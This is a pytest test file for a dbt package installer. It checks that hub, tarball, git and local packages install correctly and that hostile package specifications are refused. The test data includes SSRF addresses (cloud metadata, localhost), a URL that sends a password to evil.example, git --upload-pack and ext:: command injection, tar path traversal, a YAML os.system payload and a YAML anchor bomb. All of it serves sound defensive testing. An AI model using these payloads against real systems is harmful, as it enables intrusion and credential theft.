"""Packages of a repository: all kinds are fetched; and what a hostile one tries, with an address or a path, fails."""

from __future__ import annotations

import io
import json
import shutil
import sys
import tarfile
import threading
from collections.abc import Iterator, Mapping
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from tests import dbt_program
from tests.dbt_program import needs_dbt
from tests.unit.dbt.test_git import repository, run, served

from tidemill.dbt import checkout, fetching, manifest, packages, spec
from tidemill.dbt.fetching import Means
from tidemill.dbt.packages import Checkout
from tidemill.errors import ConfigError, NotFoundError, TidemillError
from tidemill.outbound.client import Http
from tidemill.outbound.guard import Guard

__all__ = ["repository"]
needs_git = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed here")


def archive(files: Mapping[str, str], *more: tarfile.TarInfo) -> bytes:
    """A gzipped tar file."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w:gz") as found:
        for path, text in files.items():
            member = tarfile.TarInfo(path)
            member.size = len(text)
            found.addfile(member, io.BytesIO(text.encode()))
        for member in more:
            found.addfile(member)
    return made.getvalue()


class Server:
    """Answers by path; `asked`: what was asked for."""

    def __init__(self) -> None:
        self.answers: dict[str, bytes] = {}
        self.onward: dict[str, str] = {}
        self.asked: list[str] = []
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), self._handler())
        threading.Thread(target=self._server.serve_forever, args=(0.01,), daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self._server.server_port}"

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()

    def publish(self, package: str, **versions: list[dict[str, Any]]) -> None:
        """Put a package into the hub: its versions (`v1_0_0`), each with what it needs."""
        name = package.partition("/")[2]
        known = {}
        for version, needs in versions.items():
            number = version.removeprefix("v").replace("_", ".")
            path = f"/archives/{name}-{number}.tar.gz"
            self.answers[path] = archive({f"top-{number}/dbt_project.yml": f"name: {name}\nversion: '{number}'\n"})
            known[number] = {"name": name, "packages": needs, "downloads": {"tarball": self.url + path}}
        self.answers[f"/api/v1/{package}.json"] = json.dumps({"name": name, "versions": known}).encode()

    def _handler(server) -> type[BaseHTTPRequestHandler]:  # noqa: N805 - beside the handler's own self
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                server.asked.append(self.path)
                onward, body = server.onward.get(self.path), server.answers.get(self.path, b"")
                self.send_response(302 if onward else 200 if self.path in server.answers else 404)
                if onward:
                    self.send_header("Location", onward)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                """Nobody reads it."""

        return Handler


@pytest.fixture
def server() -> Iterator[Server]:
    made = Server()
    yield made
    made.close()


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """The project of a repository, in a folder of it."""
    folder = tmp_path / "checkout" / "shop"
    folder.mkdir(parents=True)
    (folder / "dbt_project.yml").write_text("name: shop\n")
    return folder


def write(folder: Path, *named: Mapping[str, Any], file: str = "packages.yml") -> None:
    (folder / file).write_text(json.dumps({"packages": list(named)}))  # JSON is YAML


def install(project: Path, server: Server | None = None, *allowed: str) -> set[str]:
    """Names of the packages that are there then."""
    http = Http(Guard(allowed or ["127.0.0.1"]))
    top = project.parent
    hub = server.url if server else "http://127.0.0.1:9"
    try:
        packages.install(project, Checkout(top, http, top.parent / "known_hosts", hub))
    finally:
        http.close()
    found = project / "dbt_packages"
    return {one.name for one in found.iterdir()} if found.is_dir() else set()


def refused(project: Path, server: Server | None = None, *allowed: str) -> TidemillError:
    with pytest.raises(TidemillError) as caught:
        install(project, server, *allowed)
    return caught.value


def version(project: Path, name: str) -> str:
    return str(checkout.document(project / "dbt_packages" / name / "dbt_project.yml")["version"])


def test_a_project_without_packages_is_left_as_it_is(project: Path) -> None:
    assert install(project) == set()
    assert sorted(one.name for one in project.iterdir()) == ["dbt_project.yml"]


def test_packages_of_the_hub_come_with_what_they_need(project: Path, server: Server) -> None:
    server.publish("dbt-labs/dbt_utils", v1_0_0=[], v1_1_0=[], v1_2_0=[], v2_0_0=[])
    needs = [{"package": "dbt-labs/dbt_utils", "version": [">=1.0.0", "<1.2.0"]}]
    server.publish("acme/audit", v0_1_0=needs)
    write(project, {"package": "acme/audit", "version": "0.1.0"})
    write(project, {"package": "dbt-labs/dbt_utils", "version": [">=1.0.0"]}, file="dependencies.yml")
    assert install(project, server) == {"audit", "dbt_utils"}
    assert version(project, "dbt_utils") == "1.1.0"


def test_the_lock_file_says_which_version(project: Path, server: Server) -> None:
    server.publish("dbt-labs/dbt_utils", v1_0_0=[], v1_1_0=[])
    write(project, {"package": "dbt-labs/dbt_utils", "version": ">=1.0.0"})
    write(project, {"package": "dbt-labs/dbt_utils", "version": "1.0.0"}, file="package-lock.yml")
    install(project, server)
    assert version(project, "dbt_utils") == "1.0.0"


def test_packages_that_do_not_fit_together_are_told(project: Path, server: Server) -> None:
    server.publish("dbt-labs/dbt_utils", v1_0_0=[], v2_0_0=[])
    server.publish("acme/audit", v0_1_0=[{"package": "dbt-labs/dbt_utils", "version": "<2.0.0"}])
    write(
        project,
        {"package": "acme/audit", "version": "0.1.0"},
        {"package": "dbt-labs/dbt_utils", "version": "2.0.0"},
    )
    assert "dbt_utils has no version that fits" in refused(project, server).message


def test_what_the_hub_does_not_know_is_told(project: Path, server: Server) -> None:
    write(project, {"package": "acme/none", "version": "0.1.0"})
    assert isinstance(refused(project, server), NotFoundError)


def test_an_archive_is_fetched_where_it_leads_to(project: Path, server: Server) -> None:
    server.answers["/real.tar.gz"] = archive({"x/dbt_project.yml": "name: other\nversion: 1\n"})
    server.onward["/utils.tar.gz"] = f"{server.url}/real.tar.gz"
    write(project, {"tarball": f"{server.url}/utils.tar.gz", "name": "utils"})
    assert install(project) == {"utils"}


def test_a_folder_of_the_same_repository_is_linked(project: Path, tmp_path: Path) -> None:
    shared = project.parent / "shared"
    shared.mkdir()
    (shared / "dbt_project.yml").write_text("name: shared\n")
    write(project, {"local": "../shared"})
    assert install(project) == {"shared"}
    assert (project / "dbt_packages" / "shared").resolve() == shared.resolve()
    shutil.move(project.parent, tmp_path / "elsewhere")
    assert (tmp_path / "elsewhere" / "shop" / "dbt_packages" / "shared" / "dbt_project.yml").is_file()


@needs_git
def test_a_repository_is_cloned_at_a_branch_or_a_commit(project: Path, repository: Path) -> None:
    at = (repository / ".git" / "refs" / "heads" / "main").read_text().strip()
    for revision, name in (("next", "next"), (at, "shop"), (None, "shop")):
        with served(repository) as url:
            write(project, {"git": url, "subdirectory": "shop", **({"revision": revision} if revision else {})})
            assert install(project) == {name}
        shutil.rmtree(project / "dbt_packages")


@needs_git
def test_packages_of_packages_are_looked_at_likewise(project: Path, repository: Path) -> None:
    write(repository / "shop", {"git": "http://169.254.169.254/latest/meta-data"})
    run(repository, "add", ".")
    run(repository, "commit", "-m", "more")
    with served(repository) as url:
        write(project, {"git": url, "subdirectory": "shop"})
        assert refused(project).code == "address_private"


@pytest.mark.parametrize(
    "named",
    [
        {"git": "http://127.0.0.1:1/project.git"},
        {"git": "https://localhost/project.git"},
        {"git": "https://[::1]/project.git"},
        {"git": "http://169.254.169.254/latest"},
        {"tarball": "http://127.0.0.1:1/a.tar.gz", "name": "a"},
        {"tarball": "http://[::ffff:10.0.0.1]/a.tar.gz", "name": "a"},
    ],
    ids=str,
)
def test_what_only_this_machine_sees_is_not_asked(named: dict[str, str], project: Path) -> None:
    write(project, named)
    assert refused(project, None, "192.0.2.1").code == "address_private"


def test_nor_is_it_asked_by_a_redirection_or_by_what_the_hub_says(project: Path, server: Server) -> None:
    port = server.url.rpartition(":")[2]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("socket.getaddrinfo", _names({"hub.example": "127.0.0.1"}))
        server.onward["/a.tar.gz"] = "http://10.0.0.7/a.tar.gz"
        write(project, {"tarball": f"http://hub.example:{port}/a.tar.gz", "name": "a"})
        assert refused(project, server, "hub.example").code == "address_private"
    assert server.asked == ["/a.tar.gz"]


def _names(known: Mapping[str, str]) -> Any:
    import socket

    looks = socket.getaddrinfo

    def look_up(host: str, *rest: Any, **more: Any) -> Any:
        return looks(known.get(host, host), *rest, **more)

    return look_up


@pytest.mark.parametrize(
    "named",
    [
        {"git": "https://x-access-token:s3cret@github.com/a/b.git"},
        {"git": "https://s3cret@github.com/a/b.git"},
        {"git": "https://{{ env_var('DBT_ENV_SECRET_TOKEN') }}@github.com/a/b.git"},
        {"git": "https://evil.example/{{ env_var('DBT_PASSWORD') }}.git"},
        {"git": "ssh://git@github.com/a/b.git"},
        {"git": "git@github.com:a/b.git"},
        {"git": "file:///srv/b.git"},
        {"git": "/srv/b.git"},
        {"git": "--upload-pack=touch /tmp/x"},
        {"git": "ext::sh -c touch% /tmp/x"},
        {"git": "https://github.com/a/b.git", "revision": "--upload-pack=x"},
        {"git": "https://github.com/a/b.git", "revision": ["a", "b"]},
        {"tarball": "https://bucket.example/a.tar.gz?X-Amz-Signature=s3cret", "name": "a"},
        {"tarball": "file:///etc/passwd", "name": "a"},
        {"tarball": "https://example.com/a.tar.gz", "name": "../../a"},
        {"tarball": "https://example.com/a.tar.gz"},
        {"package": "../../x", "version": "1.0.0"},
        {"package": "a/b"},
        {"package": "a/b", "git": "https://github.com/a/b.git"},
        {"private": "a/b"},
        "a/b",
        {},
    ],
    ids=str,
)
def test_what_cannot_be_checked_is_refused_before_anything_is_asked(named: Any, project: Path) -> None:
    write(project, named)
    error = refused(project)
    assert isinstance(error, ConfigError)
    assert "s3cret" not in error.message + error.hint


@pytest.mark.parametrize("path", ["..", ".", "../../other", "/etc", "~", "../shop", "../out", "../none", "{{ x }}"])
def test_a_folder_that_leads_out_is_refused(path: str, project: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "dbt_project.yml").write_text("name: other\n")
    (project.parent / "out").symlink_to(other)
    write(project, {"local": path})
    assert isinstance(refused(project), ConfigError)
    assert (other / "dbt_project.yml").is_file()


@needs_git
@pytest.mark.parametrize(
    ("said", "subfolder"),
    [
        ("name: ../../../x", "shop"),
        ("name: x\nmodel-paths: [../../..]", "shop"),
        ("name: x", "../.."),
        ("name: x", "shop/out"),
    ],
)
def test_a_repository_that_leads_out_is_refused(said: str, subfolder: str, project: Path, repository: Path) -> None:
    (repository / "shop" / "dbt_project.yml").write_text(said)
    if subfolder.endswith("out"):
        (repository / "shop" / "out").symlink_to("/etc")
    run(repository, "add", ".")
    run(repository, "commit", "-m", "hostile")
    with served(repository) as url:
        write(project, {"git": url, "subdirectory": subfolder})
        assert isinstance(refused(project), ConfigError)


def link(path: str, to: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
    made = tarfile.TarInfo(path)
    made.type, made.linkname = kind, to
    return made


@pytest.mark.parametrize(
    "body",
    [
        archive({"a/dbt_project.yml": "", "../../escaped": "x"}),
        archive({"a/dbt_project.yml": "", "/tmp/escaped-by-tests": "x"}, link("b", "/")),  # noqa: S108
        archive({"a/x": "", "b/y": ""}),
        archive({"file": ""}),
        archive({}),
        b"no archive",
        archive({"a/x": "x" * 100_000})[:-50],
    ],
    ids=["..", "/", "two folders", "a file", "nothing", "no archive", "cut off"],
)
def test_an_archive_that_is_none_or_leads_out_is_refused(body: bytes, tmp_path: Path) -> None:
    into = tmp_path / "deep" / "er" / "into"
    with pytest.raises(ConfigError):
        packages.unpacked(body, into)
    assert all(one.is_relative_to(into) for one in tmp_path.rglob("*") if one.is_file())
    assert not Path("/tmp/escaped-by-tests").exists()  # noqa: S108


def test_links_of_an_archive_are_left_out(tmp_path: Path) -> None:
    body = archive(
        {"a/dbt_project.yml": "name: a\n"}, link("a/etc", "/etc"), link("a/x", "/etc/passwd", tarfile.LNKTYPE)
    )
    found = packages.unpacked(body, tmp_path / "into")
    assert [one.name for one in found.iterdir()] == ["dbt_project.yml"]


def test_an_archive_that_would_fill_the_disk_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(packages, "_MOST_UNPACKED", 1_000_000)
    with pytest.raises(ConfigError, match="too large"):
        packages.unpacked(archive({"a/x": "x" * 2_000_000}), tmp_path / "into")
    assert sum(one.stat().st_size for one in tmp_path.rglob("*") if one.is_file()) == 0


@pytest.mark.parametrize(
    "said",
    [
        "packages-install-path: /var/lib",
        "packages-install-path: ../..",
        "modules-path: ../../..",
        "packages-install-path: ~/x",
        "packages-install-path: \"{{ env_var('HOME') }}\"",
        "model-paths: [models, ../../../etc]",
        "seed-paths: /etc",
        "macro_paths: [/srv]",
        "docs-paths: ['~']",
        "target-path: /tmp/x",
        "a: [",
        "- a",
        "!!python/object/apply:os.system ['true']",
        "a: 1\n---\nb: 2",
        "version: 1 #\u2028packages-install-path: /etc",
        "version: 1 #\u0085packages-install-path: /etc",
        "model-paths: a\nmodel-paths: b",
        "model-paths: {a: b}",
        "model-paths: [[/etc]]",
    ],
)
def test_a_project_whose_paths_lead_out_is_refused(said: str, project: Path, tmp_path: Path) -> None:
    (tmp_path / "kept").mkdir()
    (project / "dbt_project.yml").write_text(f"name: shop\n{said}\n" if ": " in said else said)
    assert isinstance(refused(project), ConfigError)
    assert (tmp_path / "kept").is_dir()


_NESTED = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "\n".join(
    f"a{number}: &a{number} [{', '.join([f'*a{number - 1}'] * 9)}]" for number in range(1, 30)
)


def test_what_nests_without_an_end_is_refused_at_once(project: Path) -> None:
    (project / "dbt_project.yml").write_text(f"name: shop\n{_NESTED}\nmodel-paths: *a29\n")
    assert "no path" in refused(project).message
    (project / "dbt_project.yml").write_text("name: shop\n")
    (project / "a").mkdir()
    (project / "a" / "dbt_project.yml").write_text(f"{_NESTED}\nname: *a29\n")
    for named in ("{local: a}", "{git: *a29}", "{package: a/b, version: *a29}", "*a29", "{git: &x [*x]}"):
        (project / "packages.yml").write_text(f"{_NESTED}\npackages: [{named}]\n")
        assert refused(project).code == "dbt_package"
        shutil.rmtree(project / "dbt_packages", ignore_errors=True)
    (project / "packages.yml").write_text("packages: [{package: a/none, version: 1.0.0}]")
    (project / "package-lock.yml").write_text(f"{_NESTED}\npackages: [{{package: *a29, version: *a29}}]\n")
    assert refused(project).code == "server_refused", "nothing listens there"


def test_a_project_may_say_where_within_it_its_packages_are(project: Path, server: Server) -> None:
    (project / "dbt_project.yml").write_text("name: shop\npackages-install-path: vendor\nmodel-paths: [../models]\n")
    server.publish("acme/audit", v0_1_0=[])
    write(project, {"package": "acme/audit", "version": "0.1.0"})
    install(project, server)
    assert [one.name for one in (project / "vendor").iterdir()] == ["audit"]


def test_packages_that_were_committed_are_looked_at(project: Path) -> None:
    package = project / "dbt_packages" / "utils"
    package.mkdir(parents=True)
    write(project, {"git": "http://10.0.0.1/x.git"})
    (package / "dbt_project.yml").write_text("name: utils\n")
    assert install(project) == {"utils"}, "nothing is asked for"
    (package / "dbt_project.yml").write_text("name: utils\nmacro-paths: [../../../../..]\n")
    assert "leads out" in refused(project).message


def test_two_packages_of_one_name_are_told(project: Path) -> None:
    for name in ("a", "b"):
        (project / name).mkdir()
        (project / name / "dbt_project.yml").write_text("name: utils\n")
    write(project, {"local": "a"}, {"local": "b"})
    assert "Two packages are named utils" in refused(project).message


def test_packages_that_name_each_other_come_to_an_end(project: Path, server: Server) -> None:
    for name, other in (("a", "b"), ("b", "a")):
        (project / name).mkdir()
        (project / name / "dbt_project.yml").write_text(f"name: {name}\n")
        write(project / name, {"local": other})
    server.publish("x/c", v1_0_0=[{"package": "x/d", "version": "1.0.0"}])
    server.publish("x/d", v1_0_0=[{"package": "x/c", "version": "1.0.0"}])
    write(project, {"local": "a"}, {"package": "x/c", "version": ">=1.0.0"})
    assert install(project, server) == {"a", "b", "c", "d"}


_DBT = """#!{python}
import json, os, pathlib, sys
words = sys.argv[1:]
assert words[0] == "parse", words
target = pathlib.Path(words[words.index("--target-path") + 1])
target.mkdir()
folder = pathlib.Path(words[words.index("--project-dir") + 1])
found = sorted(str(one.relative_to(folder)) for one in folder.glob("dbt_packages/*/dbt_project.yml"))
(target / "manifest.json").write_text(json.dumps([dict(os.environ), found]))
"""


@needs_git
def test_dbt_parses_a_repository_with_its_packages_and_without_network_or_secrets(
    repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "dbt"
    program.write_text(_DBT.format(python=sys.executable))
    program.chmod(0o700)
    monkeypatch.setenv("DBT_ENV_SECRET_TOKEN", "s3cret")
    monkeypatch.setenv("NO_PROXY", "*")
    monkeypatch.setenv("DBT_OF_OURS", "1")
    (repository / "shared").mkdir()
    (repository / "shared" / "dbt_project.yml").write_text("name: shared\n")
    write(repository / "shop", {"local": "../shared"})
    run(repository, "add", ".")
    run(repository, "commit", "-m", "packages")
    http = Http(Guard(["127.0.0.1"]))
    means = Means(http, lambda *_: b"", ("prod-1", "marts"), tmp_path / "known_hosts", str(program))
    with served(repository) as url:
        found = fetching.fetch(spec.make({"name": "shop", "git": url, "subfolder": "shop"}), means)
    http.close()
    seen, installed = json.loads(found.manifest)
    assert installed == ["dbt_packages/shared/dbt_project.yml"]
    assert "s3cret" not in json.dumps(seen)
    assert "NO_PROXY" not in seen
    assert {seen["HTTPS_PROXY"], seen["http_proxy"]} == {"http://127.0.0.1:9"}
    assert not [name for name in seen if name.startswith("DBT_")]


@needs_git
def test_a_repository_that_an_editor_gives_does_not_reach_the_inner_network(
    repository: Path, server: Server, tmp_path: Path
) -> None:
    port = server.url.rpartition(":")[2]
    write(repository / "shop", {"tarball": f"http://127.0.0.2:{port}/a.tar.gz", "name": "a"})
    run(repository, "add", ".")
    run(repository, "commit", "-m", "hostile")
    http = Http(Guard(["127.0.0.1"]))
    means = Means(http, lambda *_: b"", ("prod-1", "marts"), tmp_path / "known_hosts", "/bin/false")
    with served(repository) as url, pytest.raises(ConfigError) as caught:
        fetching.fetch(spec.make({"name": "shop", "git": url, "subfolder": "shop"}), means)
    http.close()
    assert caught.value.code == "address_private"
    assert server.asked == []


@needs_dbt
@needs_git
def test_the_real_dbt_takes_what_was_installed(repository: Path, server: Server, tmp_path: Path) -> None:
    server.publish("acme/audit", v0_1_0=[])
    server.answers["/archives/audit-0.1.0.tar.gz"] = archive(
        {
            "top/dbt_project.yml": "name: audit\nversion: '0.1.0'\nmacro-paths: [macros]\n",
            "top/macros/one.sql": "{% macro one() %}1{% endmacro %}",
        }
    )
    shop, shared = repository / "shop", repository / "shared"
    (shop / "models").mkdir()
    (shared / "macros").mkdir(parents=True)
    (shop / "dbt_project.yml").write_text("name: shop\nversion: '1.0'\nprofile: theirs\n")
    (shop / "models" / "people.sql").write_text("select {{ audit.one() }} as id, {{ shared.two() }} as n")
    (shared / "dbt_project.yml").write_text("name: shared\nversion: '1.0'\n")
    (shared / "macros" / "two.sql").write_text("{% macro two() %}2{% endmacro %}")
    write(shop, {"package": "acme/audit", "version": [">=0.1.0", "<1.0.0"]}, {"local": "../shared"})
    run(repository, "add", ".")
    run(repository, "commit", "-m", "packages")
    http = Http(Guard(["127.0.0.1"]))
    means = Means(http, lambda *_: b"", ("prod-1", "marts"), tmp_path / "known_hosts", dbt_program.find())
    with pytest.MonkeyPatch.context() as patch, served(repository) as url:
        patch.setenv("DBT_PACKAGE_HUB_URL", server.url)
        found = fetching.fetch(spec.make({"name": "shop", "git": url, "subfolder": "shop"}), means)
    http.close()
    assert str(manifest.read(found.manifest).find("people").relation) == "prod-1.marts.people"
